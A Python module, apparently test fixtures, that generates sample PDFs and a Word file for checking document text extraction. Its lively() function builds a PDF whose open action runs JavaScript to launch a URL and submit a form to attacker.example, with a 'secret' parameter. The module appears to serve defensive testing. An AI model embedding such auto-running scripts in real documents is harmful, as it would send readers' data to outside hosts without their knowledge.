"""Real files as other programs make them: PDFs by reportlab, Word files by python-docx."""

from io import BytesIO
from typing import Any

import docx
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from reportlab.lib.pagesizes import A4
from reportlab.lib.styles import getSampleStyleSheet
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfgen.canvas import Canvas
from reportlab.platypus import BaseDocTemplate, Frame, PageTemplate, Paragraph

FILLER = (
    "The lighthouse keeper wrote down the weather every morning and every evening, "
    "and nobody ever asked to see what had been written."
)
WHO = ("keeper", "gardener", "librarian", "ferryman", "baker", "cartographer", "watchmaker")
WHAT = ("weather", "visitors", "expenditures", "particularities", "tides", "correspondence")
EVIDENCE = (
    "Requests for leave are to be handed in four weeks ahead, in writing, to the head of the "
    "department, who answers within five working days."
)
ANSWERED = "答复：员工应当提前四周以书面形式向部门负责人提出休假申请，负责人须在五个工作日内答复。"
OTHER = "本条例适用于全体员工，包括试用期员工与兼职人员；另有约定的，从其约定。"
ELSEWHERE = "https://attacker.example/from-a-pdf?secret=1"


def columns(pages: int = 4) -> bytes:
    """Two columns of text that is hyphenated at the ends of lines; the evidence is far inside."""
    made = BytesIO()
    template = BaseDocTemplate(made, pagesize=A4, title="Two columns")
    width, height = (A4[0] - 150) / 2, A4[1] - 140
    frames = [Frame(60 + side * (width + 30), 70, width, height, id=f"c{side}") for side in (0, 1)]
    template.addPageTemplates(PageTemplate(frames=frames, onPage=_footer))
    style = getSampleStyleSheet()["BodyText"]
    style.embeddedHyphenation = 1
    story = []
    for number in range(pages * 22):
        filler = FILLER.replace("lighthouse keeper", f"{WHO[number % 7]} of house {number}")
        text = EVIDENCE if number == 53 else filler.replace("weather", WHAT[number % 6])
        story.append(Paragraph(text.replace("department", "depart\u00adment"), style))
    template.build(story)
    return made.getvalue()


def _footer(canvas: Canvas, template: Any) -> None:
    canvas.drawString(60, 40, f"Internal - page {template.page}")


def chinese() -> bytes:
    """Set in a font that is not in the file and named by a character map, as older programs do."""
    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    made = BytesIO()
    canvas = Canvas(made, pagesize=A4)
    for page in range(3):
        canvas.setFont("STSong-Light", 14)
        lines = [OTHER] * 6 + [ANSWERED] * (page == 1) + [OTHER] * 4
        place = A4[1] - 80
        for line in lines:
            for start in range(0, len(line), 22):  # as wide as the page
                canvas.drawString(70, place, line[start : start + 22])
                place -= 22
            place -= 14
        canvas.showPage()
    canvas.save()
    return made.getvalue()


def rotated() -> bytes:
    """A landscape table lies on its side: the page is turned by a quarter when it is shown."""
    made = BytesIO()
    canvas = Canvas(made, pagesize=A4)
    canvas.drawString(80, 700, FILLER[:80])
    canvas.showPage()
    canvas.setPageRotation(90)
    canvas.translate(A4[0], 0)
    canvas.rotate(90)
    place = 480
    for line in (FILLER[:80], EVIDENCE[:88], EVIDENCE[88:], FILLER[:80]):
        canvas.drawString(80, place, line)
        place -= 22
    canvas.save()
    return made.getvalue()


def lively() -> bytes:
    """Scripts, an action on opening, a form that sends itself away, links: to be shown, not run."""
    made = BytesIO()
    canvas = Canvas(made, pagesize=A4)
    canvas.drawString(80, 760, EVIDENCE[:88])
    canvas.drawString(80, 740, EVIDENCE[88:])
    canvas.drawString(80, 600, "Our partner's site")
    canvas.linkURL(ELSEWHERE, (80, 595, 220, 615))
    canvas.drawString(80, 560, "Run it")
    canvas.linkURL("javascript:app.alert(1)", (80, 555, 220, 575))
    canvas.drawString(80, 520, "To the second page")
    canvas.linkAbsolute("", "second", (80, 515, 220, 535))
    canvas.acroForm.textfield(
        name="secret", x=80, y=420, width=200, height=24, value="typed before"
    )
    canvas.showPage()
    canvas.bookmarkPage("second")
    canvas.drawString(80, 760, FILLER[:80])
    canvas.save()
    writer = PdfWriter(clone_from=BytesIO(made.getvalue()))
    script = f"app.alert(1); app.launchURL('{ELSEWHERE}', true); this.submitForm('{ELSEWHERE}');"
    writer.add_open_action(JavaScript(script))
    return _written(writer)


def encrypted() -> bytes:
    writer = PdfWriter(clone_from=BytesIO(chinese()))
    writer.encrypt("secret", algorithm="AES-256-R5")
    return _written(writer)


def broken() -> bytes:
    """Its beginning says PDF; what follows is not one."""
    return b"%PDF-1.7\n" + b"this is not a document at all\n" * 40


def word() -> bytes:
    """Headings, lists, a table, emphasis and links as python-docx writes them."""
    made = docx.Document()
    made.core_properties.title = "Leave"
    made.add_heading("Leave", 1)
    paragraph = made.add_paragraph("Every request is ")
    paragraph.add_run("in writing").bold = True
    paragraph.add_run(" and ")
    paragraph.add_run("four weeks").italic = True
    paragraph.add_run(" ahead.")
    made.add_heading("Who answers", 2)
    for text in ("the head of the department", "in their absence the deputy"):
        made.add_paragraph(text, style="List Number")
    made.add_paragraph("by letter", style="List Bullet 2")
    table = made.add_table(3, 2)
    rows = [("Kind", "Days"), ("Annual", "28"), ("年假", "二十八天")]
    for row, texts in zip(table.rows, rows, strict=True):
        for cell, text in zip(row.cells, texts, strict=True):
            cell.text = text
    made.add_paragraph("Nothing else was agreed.", style="Intense Quote")
    stream = BytesIO()
    made.save(stream)
    return stream.getvalue()


def page_count(data: bytes) -> int:
    return len(PdfReader(BytesIO(data)).pages)


def _written(writer: PdfWriter) -> bytes:
    made = BytesIO()
    writer.write(made)
    return made.getvalue()
